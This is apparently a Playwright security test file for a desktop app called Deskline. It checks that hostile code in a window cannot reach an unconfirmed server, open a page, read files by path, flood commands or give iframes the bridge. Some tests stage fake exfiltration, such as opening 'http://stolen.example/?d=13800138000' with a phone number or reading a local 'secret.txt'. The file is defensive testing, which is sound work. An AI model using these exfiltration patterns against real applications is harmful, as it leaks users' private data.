import { expect, test } from '@playwright/test'
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type AddressInfo } from 'node:net'
import { once } from 'node:events'
import { tmpdir } from 'node:os'
import { delimiter, join } from 'node:path'
import type { SignInForm } from '../src/shared/session/schema'
import { dropCommands } from '../src/shared/app/channels'
import type { Simulator } from '../src/simulator/simulator'
import { importsOf, openCampaigns } from './support/campaigns'
import { startDeskline, type Deskline } from './support/deskline'
import { dropFiles } from './support/number-list'
import { sendFromPreload } from './support/preload-world'
import { answerQuestions, askedQuestions } from './support/questions'
import { shareProgram, signInAnew } from './support/shared-program'
import { signIn, startService } from './support/sign-in'

// Hostile use of the commands by code in a window, in the page's world and in the preload's.

let service: Simulator
let deskline: Deskline
let folder: string
let opened: string

test.beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'deskline-hostile-'))
  opened = join(folder, 'opened')
  // No browser is installed: a script in its place records the addresses it is asked to open.
  writeFileSync(join(folder, 'xdg-open'), `#!/bin/sh\nprintf '%s\\n' "$1" >> '${opened}'\n`)
  chmodSync(join(folder, 'xdg-open'), 0o755)
})
test.afterAll(() => rmSync(folder, { recursive: true, force: true }))

const pagesOpened = (): string[] =>
  existsSync(opened) ? readFileSync(opened, 'utf8').trim().split('\n') : []
const cancelled = { ok: false, error: { code: 'cancelled' } }

test.describe('in a program of its own', () => {
  test.afterEach(async () => {
    await deskline.quit()
    await service.close()
  })

  test('nothing is sent to a server new to this computer until the user confirms it outside the window', async () => {
    service = await startService()
    deskline = await startDeskline()
    let connections = 0
    const server = createServer((socket) => {
      connections += 1
      socket.on('error', () => undefined).destroy()
    }).listen(0, '127.0.0.1')
    await once(server, 'listening')
    const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    const form: SignInForm = {
      server: { kind: 'custom', apiPrefix: `${origin}/stolen`, fayeUrl: `${origin}/faye` },
      tenantId: 'stolen',
      token: 'x',
      agentId: '1',
      callerNumber: '',
      salesmanCode: ''
    }
    const attempt = (): Promise<unknown> =>
      deskline.page.evaluate((form) => window.deskline.commands['session:sign-in'](form), form)

    await answerQuestions(deskline.app, 'no')
    expect(await attempt()).toEqual(cancelled)
    expect(connections).toBe(0)
    const [question] = await askedQuestions(deskline.app)
    expect(question).toMatchObject({ buttons: ['Cancel', 'Sign In'], defaultId: 0, cancelId: 0 })
    expect(question?.detail).toContain(origin)

    // A confirmed server is remembered, in this run and the next.
    await answerQuestions(deskline.app, 'yes')
    await signIn(deskline.page, service)
    expect(await askedQuestions(deskline.app)).toHaveLength(1)
    await deskline.quit()
    deskline = await startDeskline({ userData: deskline.userData })
    await expect(deskline.page.getByText('Connected', { exact: true })).toBeVisible()
    await deskline.page.evaluate(() => window.deskline.commands['session:sign-out'](undefined))
    await answerQuestions(deskline.app, 'no')
    await signIn(deskline.page, service)
    expect(await askedQuestions(deskline.app)).toEqual([])
    server.close()
  })
})

test.describe('in one program', () => {
  const program = shareProgram(() => ({
    env: { PATH: `${folder}${delimiter}${process.env['PATH'] ?? ''}` }
  }))
  test.beforeEach(async () => {
    deskline = program()
    service = await startService()
  })
  test.afterEach(() => service.close())

  test('no page is opened until the user confirms its site outside the window', async () => {
    await answerQuestions(deskline.app, 'no')
    const stolen = 'http://stolen.example/?d=13800138000'
    const tryToOpen = (isOn: boolean): Promise<unknown[]> =>
      deskline.page.evaluate(
        async ({ isOn, template }) => {
          const { commands } = window.deskline
          const state = await commands['app:state'](undefined)
          if (!state.ok) return []
          const pages = { ...state.value.settings.value.pages, callEnded: { isOn, template } }
          return [
            await commands['settings:change']({ pages }),
            await commands['pages:test']({ event: 'callEnded' })
          ]
        },
        { isOn, template: stolen }
      )
    expect((await tryToOpen(true))[0]).toEqual(cancelled)
    expect((await tryToOpen(false))[1]).toEqual(cancelled)
    const asked = await askedQuestions(deskline.app)
    expect(asked.map(({ buttons, defaultId }) => ({ buttons, defaultId }))).toEqual([
      { buttons: ['Cancel', 'Allow'], defaultId: 0 },
      { buttons: ['Cancel', 'Allow'], defaultId: 0 }
    ])
    expect(asked[0]?.detail).toContain('http://stolen.example')
    expect(asked[0]?.detail).not.toContain('13800138000')
    expect(pagesOpened()).toEqual([])

    await answerQuestions(deskline.app, 'yes')
    expect(await tryToOpen(true)).toEqual([
      { ok: true, value: undefined },
      { ok: true, value: undefined }
    ])
    await expect.poll(pagesOpened).toEqual([stolen])
    expect(await askedQuestions(deskline.app)).toHaveLength(1)
  })

  test('code with access to the preload can’t have a file read by path, only a file that was dropped', async () => {
    await signInAnew(deskline, service)
    const secret = join(folder, 'secret.txt')
    writeFileSync(secret, 'user,phone\nroot,13800138000\n')
    const page = await openCampaigns(deskline)
    for (const { offer, take } of Object.values(dropCommands)) {
      const offered = await sendFromPreload(page, offer, { files: [{ path: secret, sizeBytes: 28 }] })
      const { id, asked } = (offered as { value: { id: string; asked: { lengthBytes: number }[] } }).value
      expect(asked).toEqual([{ file: 0, fromByte: 0, lengthBytes: 28 }])
      for (const answers of [[], [new Array(28).fill(0)]]) {
        expect(await sendFromPreload(page, take, { id, answers })).toMatchObject({ ok: false })
      }
    }
    expect((await importsOf(page)).draft.tables).toEqual([])

    await dropFiles(page, [secret])
    await expect
      .poll(async () => (await importsOf(page)).draft.tables.map(({ name }) => name))
      .toEqual(['secret.txt'])
  })

  test('a command that is sent too often is refused', async () => {
    const codes = await deskline.page.evaluate(async () => {
      const replies = Array.from({ length: 200 }, () =>
        window.deskline.commands['clipboard:write']({ text: 'stolen' })
      )
      return (await Promise.all(replies)).map((reply) => (reply.ok ? 'ok' : reply.error.code))
    })
    expect(codes.slice(0, 30)).toEqual(new Array(30).fill('ok'))
    expect(codes.filter((code) => code === 'too-many-requests').length).toBeGreaterThan(100)
  })

  test('an iframe in a window gets neither the preload nor a Deskline page', async () => {
    const seen = await deskline.page.evaluate(async () => {
      const frames = [
        ['src', 'about:blank'],
        ['srcdoc', '<p>mine</p>'],
        ['src', 'app://deskline/index.html'],
        ['src', 'data:text/html,mine']
      ].map(([name = '', value = '']) => {
        const frame = document.body.appendChild(document.createElement('iframe'))
        frame.setAttribute(name, value)
        return frame
      })
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
      return frames.map(({ contentWindow, contentDocument }) => ({
        title: contentDocument?.title ?? '',
        hasBridge: contentDocument !== null && Reflect.has(contentWindow ?? {}, 'deskline')
      }))
    })
    expect(seen).toEqual(new Array(4).fill({ hasBridge: false, title: '' }))
  })
})
